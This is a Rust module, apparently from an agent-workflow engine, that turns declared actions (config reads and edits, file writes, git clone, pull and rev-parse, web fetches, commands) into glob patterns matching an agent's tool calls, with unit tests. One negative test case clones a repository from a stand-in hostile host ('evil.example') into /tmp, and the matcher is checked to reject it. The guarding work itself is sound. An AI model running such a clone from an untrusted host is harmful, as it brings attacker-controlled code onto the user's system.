//! The tool call each outside-world consequence stands for: the globs that match the agent's
//! call, and the call as the agent would make it (what `next`, recovery and the views show).
//!
//! | consequence | matches | shown |
//! |---|---|---|
//! | `read_config` | `Read` of `<project>/data/config.yaml` | `Read(file_path="data/config.yaml")` |
//! | `write_config_entry`, `add_source`, `update_source` | `Write\|Edit` of it | `Edit(file_path="data/config.yaml")` |
//! | `write_file`, `cache_web_content` | `Write\|Edit` of `<project>/<path>` | `Write(file_path="<path>")` |
//! | `create_directory` | `Bash` of `*mkdir *<path>*` | `Bash(command="mkdir -p <path>")` |
//! | `clone_repo` | `Bash` of `*git *clone *<url>*<dest>*` | `Bash(command="git clone [--depth d] [--branch b] <url> <dest>")` |
//! | `get_sha` | `Bash` of `*<repo_path>*rev-parse*` | `Bash(command="git -C <repo_path> rev-parse HEAD")` |
//! | `git_pull`, `git_fetch` | `Bash` of `*<repo_path>* pull*` / `fetch` | `Bash(command="git -C <repo_path> pull")` |
//! | `web_fetch` | `WebFetch` of `<url>` | `WebFetch(url="<url>")` |
//! | `invoke_pattern` | `Read` of `<project>/<path>` | `Read(file_path="<path>")` |
//! | `spawn_agent` | `Task\|Agent` | (the pattern) |
//! | `invoke_skill` | `skill:<skill>` | `Skill(skill="<skill>")` |
//! | `run_command` | `Bash` of `<command>` | `Bash(command="<command>")` |
//!
//! A relative path matches the same path made absolute inside the project
//! (`/home/me/corpus/data/config.yaml`), as the agent passes it, and not a file of that name
//! elsewhere; commands match wherever they name it. `${var}` stays in both forms: the globs become a guard on the call's input
//! that the engine resolves when the call is judged (see `consequence::split_templates`), and
//! the shown call is filled in with the values the session holds when it is shown.

use serde_json::Value;

use super::precond::CONFIG_PATH;
use super::schema::Consequence;
use crate::engine::ir::{InputMatcher, PROJECT_DIR_READER};
use crate::engine::pattern::{Alt, Pattern};

/// What an outside-world consequence waits for, and how to show it.
pub struct Call {
    pub pattern: Pattern,
    /// `None` when the pattern names the call well enough (`Task|Agent`).
    pub shown: Option<String>,
}

pub fn alt(tool: &str, input: &[(&str, String)]) -> Alt {
    Alt {
        kind: None,
        glob: tool.to_string(),
        input: input
            .iter()
            .map(|(p, g)| (p.to_string(), InputMatcher::Glob(g.clone())))
            .collect(),
    }
}

/// A glob for a file path the agent passes as an absolute `file_path` (`${var}` kept): a
/// relative one is taken from the project's directory (see `PROJECT_DIR_READER`).
pub fn path_glob(path: &str) -> String {
    if path.starts_with(['/', '*', '$']) {
        path.to_string()
    } else {
        format!("${{{PROJECT_DIR_READER}}}/{}", trim_dot(path))
    }
}

fn trim_dot(path: &str) -> &str {
    path.trim_start_matches("./")
}

/// `text` as a JSON string inside a shown call (`"` and `\` escaped).
fn quoted(text: &str) -> String {
    Value::String(text.to_string()).to_string()
}

fn shown(tool: &str, key: &str, value: &str) -> Option<String> {
    Some(format!("{tool}({key}={})", quoted(value)))
}

fn write_to(path: Option<&str>, shown_as: &str) -> Call {
    let input: Vec<(&str, String)> = path
        .map(|p| ("/file_path", path_glob(p)))
        .into_iter()
        .collect();
    Call {
        pattern: Pattern {
            alts: vec![alt("Write", &input), alt("Edit", &input)],
        },
        shown: path.and_then(|p| shown(shown_as, "file_path", trim_dot(p))),
    }
}

/// A `Bash` call whose command matches `glob`, shown as `command`.
fn bash(glob: String, command: Option<String>) -> Call {
    Call {
        pattern: Pattern {
            alts: vec![alt("Bash", &[("/command", collapse(glob))])],
        },
        shown: command.and_then(|c| shown("Bash", "command", &c)),
    }
}

fn collapse(mut glob: String) -> String {
    while glob.contains("**") {
        glob = glob.replace("**", "*");
    }
    glob
}

fn text_of(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// A git command in `repo` (`git -C <repo> <verb>`), matched wherever the command names the
/// repository before the verb (`cd <repo> && git <verb>` too).
fn git_in(repo: Option<&str>, verb: &str, shown_verb: &str) -> Call {
    match repo {
        Some(r) => bash(
            format!("*{}* {verb}*", trim_dot(r)),
            Some(format!("git -C {} {shown_verb}", trim_dot(r))),
        ),
        None => bash(format!("*git *{verb}*"), Some(format!("git {shown_verb}"))),
    }
}

fn clone(c: &Consequence) -> Call {
    let url = c.url.as_deref().filter(|u| !u.trim().is_empty());
    let dest = c
        .dest
        .as_deref()
        .filter(|d| !d.trim().is_empty())
        .map(trim_dot);
    let mut glob = "*git *clone *".to_string();
    let mut command = "git clone".to_string();
    if let Some(d) = &c.depth {
        command.push_str(&format!(" --depth {}", text_of(d)));
    }
    if let Some(b) = c.branch.as_deref().filter(|b| !b.trim().is_empty()) {
        command.push_str(&format!(" --branch {b}"));
    }
    for part in [url, dest].into_iter().flatten() {
        glob.push_str(part);
        glob.push('*');
        command.push(' ');
        command.push_str(part);
    }
    bash(glob, url.map(|_| command))
}

/// The call `kind` stands for, or `Ok(None)` when `kind` is not an outside-world consequence.
/// `Err` names a parameter the consequence needs.
pub fn of(kind: &str, c: &Consequence) -> Result<Option<Call>, &'static str> {
    let need = |v: &Option<String>, key: &'static str| match v {
        Some(s) if !s.trim().is_empty() => Ok(s.clone()),
        _ => Err(key),
    };
    let some = |text: Option<String>| text.filter(|t| !t.trim().is_empty());
    Ok(Some(match kind {
        "read_config" => Call {
            pattern: Pattern {
                alts: vec![alt("Read", &[("/file_path", path_glob(CONFIG_PATH))])],
            },
            shown: shown("Read", "file_path", CONFIG_PATH),
        },
        "write_config_entry" | "add_source" | "update_source" => {
            write_to(Some(CONFIG_PATH), "Edit")
        }
        "write_file" | "cache_web_content" => {
            write_to(some(c.path.clone().or(c.dest.clone())).as_deref(), "Write")
        }
        "create_directory" => match some(c.path.clone()) {
            Some(p) => bash(
                format!("*mkdir *{}*", trim_dot(&p)),
                Some(format!("mkdir -p {}", trim_dot(&p))),
            ),
            None => bash("*mkdir *".into(), None),
        },
        "clone_repo" => clone(c),
        "get_sha" => git_in(
            some(c.repo_path.clone().or(c.path.clone())).as_deref(),
            "rev-parse",
            "rev-parse HEAD",
        ),
        "git_pull" => git_in(
            some(c.repo_path.clone().or(c.path.clone())).as_deref(),
            "pull",
            "pull",
        ),
        "git_fetch" => git_in(
            some(c.repo_path.clone().or(c.path.clone())).as_deref(),
            "fetch",
            "fetch",
        ),
        "run_command" => {
            let command = need(&c.command, "command")?;
            bash(command.clone(), Some(command))
        }
        "web_fetch" => {
            let url = some(c.url.clone());
            let input: Vec<(&str, String)> = url.iter().map(|u| ("/url", u.clone())).collect();
            Call {
                pattern: Pattern {
                    alts: vec![alt("WebFetch", &input)],
                },
                shown: url.and_then(|u| shown("WebFetch", "url", &u)),
            }
        }
        "invoke_pattern" => {
            let path = need(&c.path, "path")?;
            Call {
                pattern: Pattern {
                    alts: vec![alt("Read", &[("/file_path", path_glob(&path))])],
                },
                shown: shown("Read", "file_path", trim_dot(&path)),
            }
        }
        "spawn_agent" => Call {
            pattern: Pattern {
                alts: vec![alt("Task", &[]), alt("Agent", &[])],
            },
            shown: None,
        },
        _ => return Ok(None),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Event;
    use serde_json::json;
    use std::collections::BTreeMap;

    fn consequence(yaml: &str) -> Consequence {
        serde_saphyr::from_str(yaml).expect("a consequence")
    }

    fn call(yaml: &str) -> Call {
        let c = consequence(yaml);
        let kind = c.kind.as_ref().map(|k| k.value.clone()).unwrap_or_default();
        of(&kind, &c).expect("its parameters").expect("a tool call")
    }

    fn runs(c: &Call, command: &str) -> bool {
        c.pattern.matches(
            &Event::tool("Bash", json!({ "command": command })),
            &BTreeMap::new(),
        )
    }

    #[test]
    fn a_clone_is_of_its_url_into_its_folder() {
        let c = call(
            "type: clone_repo\nurl: https://github.com/acme/docs\ndest: ./.source/docs\ndepth: 1\n",
        );
        assert_eq!(
            c.shown.as_deref(),
            Some(
                r#"Bash(command="git clone --depth 1 https://github.com/acme/docs .source/docs")"#
            )
        );
        for ok in [
            "git clone --depth 1 https://github.com/acme/docs .source/docs",
            "git clone https://github.com/acme/docs.git /home/me/corpus/.source/docs",
            "cd /home/me/corpus && git -c http.sslVerify=true clone https://github.com/acme/docs .source/docs",
        ] {
            assert!(runs(&c, ok), "{ok}");
        }
        for bad in [
            "git clone https://evil.example/x.git /tmp/y",
            "git clone https://github.com/acme/docs /tmp/y",
            "curl https://github.com/acme/docs > .source/docs",
        ] {
            assert!(!runs(&c, bad), "{bad}");
        }
    }

    #[test]
    fn directories_and_commits_are_the_ones_named() {
        let mkdir = call("type: create_directory\npath: .source\n");
        assert_eq!(
            mkdir.shown.as_deref(),
            Some(r#"Bash(command="mkdir -p .source")"#)
        );
        assert!(runs(&mkdir, "mkdir -p .source"));
        assert!(runs(&mkdir, "mkdir -p /home/me/corpus/.source"));
        assert!(!runs(&mkdir, "mkdir -p /etc/foo"));
        let sha = call("type: get_sha\nrepo_path: .source/docs\nstore_as: sha\n");
        assert_eq!(
            sha.shown.as_deref(),
            Some(r#"Bash(command="git -C .source/docs rev-parse HEAD")"#)
        );
        assert!(runs(&sha, "git -C .source/docs rev-parse HEAD"));
        assert!(runs(&sha, "cd .source/docs && git rev-parse HEAD"));
        assert!(!runs(&sha, "git -C /tmp/other rev-parse HEAD"));
        let pull = call("type: git_pull\nrepo_path: .source/docs\n");
        assert!(runs(&pull, "git -C .source/docs pull --ff-only"));
        assert!(!runs(&pull, "git -C .source/docs fetch"));
    }

    #[test]
    fn what_a_consequence_leaves_out_matches_any_value() {
        let any = call("type: clone_repo\n");
        assert_eq!(any.shown, None, "no URL: no call to show");
        assert!(runs(&any, "git clone https://anywhere/x.git"));
        assert_eq!(
            call("type: get_sha\n").shown.as_deref(),
            Some(r#"Bash(command="git rev-parse HEAD")"#)
        );
        assert_eq!(call("type: spawn_agent\n").shown, None);
    }

    #[test]
    fn shown_calls_quote_what_they_hold() {
        let c = call("type: run_command\ncommand: 'echo \"hi\"'\n");
        assert_eq!(c.shown.as_deref(), Some(r#"Bash(command="echo \"hi\"")"#));
        assert_eq!(
            call("type: write_file\npath: ./data/web/${id}/page.md\n")
                .shown
                .as_deref(),
            Some(r#"Write(file_path="data/web/${id}/page.md")"#)
        );
    }
}
